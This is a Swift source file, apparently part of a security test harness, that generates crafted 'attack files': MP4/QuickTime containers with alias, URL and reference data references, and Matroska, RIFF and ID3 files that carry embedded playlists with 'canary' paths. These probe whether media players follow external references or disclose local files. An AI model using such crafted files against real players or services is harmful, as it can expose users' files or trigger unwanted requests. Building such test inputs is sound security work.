import Foundation

/// Attack files in the form of real containers.
enum Containers {
    /// Containers that refer to media data in another file.
    static func pointing(at url: String) -> [Recipe] {
        [
            Recipe("mov-alias", bytes: MOV.movie(data: MOV.alias(url))),
            Recipe("mp4-url", bytes: MOV.movie(data: MOV.box("url ", Array("\0\0\0\0\(url)\0".utf8)))),
            Recipe("mp4-urn", bytes: MOV.movie(data: MOV.box("urn ", Array("\0\0\0\0x\0\(url)\0".utf8)))),
            Recipe("mov-reference", bytes: MOV.reference(url)),
        ]
    }

    /// Containers that hold `text` (a playlist) at places where a player may look for one.
    static func carrying(_ text: String) -> [Recipe] {
        let bytes = Array(text.utf8)
        return [
            Recipe("mkv-attachment", bytes: Matroska.file(codecPrivate: [], attachment: bytes)),
            Recipe("mkv-codec", bytes: Matroska.file(codecPrivate: bytes, attachment: [])),
            Recipe("mp4-media", bytes: Data(MOV.brand + MOV.box("mdat", bytes))),
            Recipe("mp4-free", bytes: Data(MOV.brand + MOV.box("free", bytes) + MOV.box("mdat", bytes))),
            Recipe("playlist-then-mp4", bytes: Data(bytes) + MOV.movie(data: MOV.alias("canary/clip.mp4"))),
            Recipe("avi", bytes: Data(RIFF.file("AVI ", bytes))), Recipe("wave", bytes: Data(RIFF.file("WAVE", bytes))),
            Recipe("id3", bytes: Data("ID3\u{4}\0\0\0\0\0\0\(text)".utf8)),
        ]
    }
}

/// Boxes of QuickTime and MP4.
private enum MOV {
    static let brand = box("ftyp", Array("qt  \0\0\u{2}\0qt  ".utf8))

    static func box(_ type: String, _ parts: [UInt8]...) -> [UInt8] {
        let content = Array(parts.joined())
        return word(8 + content.count) + Array(type.utf8) + content
    }

    /// A Macintosh data reference: an alias record with volume, name, and the path as item 2. The layout is the one
    /// that libavformat reads. Source: Inside Macintosh: Files, "Alias Records".
    static func alias(_ url: String) -> [UInt8] {
        let path = url.drop { $0 == "/" }.replacing("/", with: ":")
        let name = Array((url.split(separator: "/").last ?? "").utf8).prefix(63)
        var record: [UInt8] = []
        for part in [
            word(0), zeros(2), half(2), zeros(6), padded(Array("V".utf8), to: 27), zeros(12),
            padded(Array(name), to: 63), zeros(16), half(1), half(url.split(separator: "/").count), zeros(16),
        ] { record += part }
        for (item, text) in [(2, "V:" + path), (18, "/" + path.replacing(":", with: "/"))] {
            let content = Array(text.utf8)
            for part in [half(item), half(content.count), content, zeros(content.count % 2)] { record += part }
        }
        return box("alis", record, half(0xffff), half(0))
    }

    /// A movie of one picture. `reference` is the data reference of its media data.
    static func movie(data reference: [UInt8]) -> Data {
        let matrix = [0x10000, 0, 0, 0, 0x10000, 0, 0, 0, 0x4000_0000].flatMap { word($0) }
        let head = box(
            "mvhd", zeros(12), word(1000), word(1000), word(0x10000), [1, 0], zeros(10), matrix, zeros(24), word(2))
        let track = box(
            "tkhd", word(3), zeros(8), word(1), zeros(4), word(1000), zeros(16), matrix, word(64 << 16), word(64 << 16))
        let sample = box(
            "mp4v", zeros(6), half(1), zeros(16), half(64), half(64), word(0x48_0000), word(0x48_0000), zeros(4),
            half(1), zeros(32), half(24), [255, 255])
        let table = box(
            "stbl", box("stsd", zeros(4), word(1), sample), box("stts", zeros(4), word(1), word(1), word(1000)),
            box("stsc", zeros(4), word(1), word(1), word(1), word(1)), box("stsz", zeros(4), word(16), word(1)),
            box("stco", zeros(4), word(1), word(0)))
        let information = box(
            "minf", box("vmhd", word(1), zeros(8)), box("dinf", box("dref", zeros(4), word(1), reference)), table)
        let media = box(
            "mdia", box("mdhd", zeros(12), word(1000), word(1000), zeros(4)),
            box("hdlr", zeros(8), Array("vide".utf8), zeros(12), [0]), information)
        return Data(brand + box("moov", head, box("trak", track, media)) + box("mdat", zeros(64)))
    }

    /// A reference movie: a list of other movies without media data.
    static func reference(_ url: String) -> Data {
        let text = Array(url.utf8) + [0]
        let entry = box("rdrf", zeros(4), Array("url ".utf8), word(text.count), text)
        return Data(brand + box("moov", box("rmra", box("rmda", entry))))
    }

    private static func padded(_ text: [UInt8], to size: Int) -> [UInt8] {
        [UInt8(text.count)] + text + zeros(size - text.count)
    }

    private static func zeros(_ count: Int) -> [UInt8] { Array(repeating: 0, count: count) }

    private static func word(_ number: Int) -> [UInt8] {
        withUnsafeBytes(of: UInt32(number).bigEndian) { Array($0) }
    }

    private static func half(_ number: Int) -> [UInt8] {
        withUnsafeBytes(of: UInt16(number).bigEndian) { Array($0) }
    }
}

/// Elements of Matroska. Source: RFC 9559.
private enum Matroska {
    static func file(codecPrivate: [UInt8], attachment: [UInt8]) -> Data {
        let header = element([0x1a, 0x45, 0xdf, 0xa3], element([0x42, 0x82], Array("matroska".utf8)))
        let info = element(
            [0x15, 0x49, 0xa9, 0x66],
            element([0x2a, 0xd7, 0xb1], [0x0f, 0x42, 0x40])
                + element([0x3c, 0x83, 0xab], Array("canary/clip.mkv".utf8))
                + element([0x3e, 0x83, 0xbb], Array("canary/clip.mkv".utf8)))
        let tracks = element(
            [0x16, 0x54, 0xae, 0x6b],
            track(1, type: 1, codec: "V_MPEG4/ISO/AVC", codecPrivate)
                + track(2, type: 0x11, codec: "S_TEXT/UTF8", codecPrivate))
        let attachments = element(
            [0x19, 0x41, 0xa4, 0x69],
            element(
                [0x61, 0xa7],
                element([0x46, 0x6e], Array("list.m3u8".utf8))
                    + element([0x46, 0x60], Array("application/vnd.apple.mpegurl".utf8))
                    + element([0x46, 0x5c], attachment) + element([0x46, 0xae], [1])))
        let cluster = element(
            [0x1f, 0x43, 0xb6, 0x75], element([0xe7], [0]) + element([0xa3], [0x81, 0, 0, 0x80, 0, 0, 0, 1, 9]))
        let body = info + tracks + (attachment.isEmpty ? [] : attachments) + cluster
        return Data(header + element([0x18, 0x53, 0x80, 0x67], body))
    }

    private static func track(_ number: UInt8, type: UInt8, codec: String, _ codecPrivate: [UInt8]) -> [UInt8] {
        let picture = element([0xe0], element([0xb0], [64]) + element([0xba], [64]))
        return element(
            [0xae],
            element([0xd7], [number]) + element([0x73, 0xc5], [number]) + element([0x83], [type])
                + element([0x86], Array(codec.utf8))
                + (codecPrivate.isEmpty ? [] : element([0x63, 0xa2], codecPrivate))
                + (type == 1 ? picture : []))
    }

    /// An element whose size field has eight bytes.
    private static func element(_ id: [UInt8], _ content: [UInt8]) -> [UInt8] {
        let size = withUnsafeBytes(of: UInt64(content.count).bigEndian) { Array($0.dropFirst()) }
        return id + [0x01] + size + content
    }
}

private enum RIFF {
    static func file(_ form: String, _ content: [UInt8]) -> [UInt8] {
        let padded = content + (content.count % 2 == 0 ? [] : [0])
        let body = Array(form.utf8) + Array("JUNK".utf8) + size(padded.count) + padded
        return Array("RIFF".utf8) + size(body.count) + body
    }

    private static func size(_ count: Int) -> [UInt8] {
        withUnsafeBytes(of: UInt32(count).littleEndian) { Array($0) }
    }
}
